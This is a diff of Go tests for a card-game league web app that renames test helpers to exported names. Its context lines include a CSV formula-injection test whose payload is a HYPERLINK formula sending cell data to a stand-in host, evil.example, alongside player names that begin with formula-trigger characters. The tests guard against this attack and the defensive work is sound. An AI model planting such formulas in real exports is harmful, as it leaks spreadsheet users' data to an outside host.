@@ -197,7 +197,7 @@ func TestHostileImportBodyLimits(t *testing.T) {
 	// 3 MiB: an export with spaces between its tokens, as JSON allows.
 	export := kksExport(3)
 	padded := export[:1] + strings.Repeat(" ", 3<<20) + export[1:]
-	if p := ts.upload(t, padded); p.Status != http.StatusSeeOther {
+	if p := ts.Upload(t, padded); p.Status != http.StatusSeeOther {
 		t.Fatalf("a 3 MiB import: %d %s", p.Status, p.Text(`[data-testid="import-error"]`))
 	}
 	rows := ts.rows()
@@ -295,7 +295,7 @@ func TestHostileServerTimeouts(t *testing.T) {
 // table's name included; scores stay numbers, negative ones too.
 func TestHostileCSVFormulas(t *testing.T) {
 	ts := newTestServer(t)
-	admin := ts.createLeague(t, "Club", "total", "@Ana", "-Ben")
+	admin := ts.CreateLeague(t, "Club", "total", "@Ana", "-Ben")
 
 	const evil = `=HYPERLINK("http://evil.example/?"&B2,"Click")`
 	nf := ts.Get("/tables/new").FormOf(t, "/tables")
@@ -309,8 +309,8 @@ func TestHostileCSVFormulas(t *testing.T) {
 	}
 	// -Ben ends on -1: one face-down card, no tokens (scored though it
 	// breaks KKS-2, ruling G-3). Then a valid game for the league.
-	ts.recordKKS(t, table, []map[string]string{kkstest.Amelia, {"red": "x"}}, []string{"3", "0"})
-	ts.recordKKS(t, table, []map[string]string{
+	ts.RecordKKS(t, table, []map[string]string{kkstest.Amelia, {"red": "x"}}, []string{"3", "0"})
+	ts.RecordKKS(t, table, []map[string]string{
 		{"red": "1 2 3 4 5 6 7 8 9 10", "blue": "1 2 3 4 5 6 7"},
 		{"yellow": "1 2 3 4 5 6 7 8 9 10", "black": "1 2 3 4 5 6 7"},
 	}, []string{"3", "1"}) // @Ana 86, -Ben 84
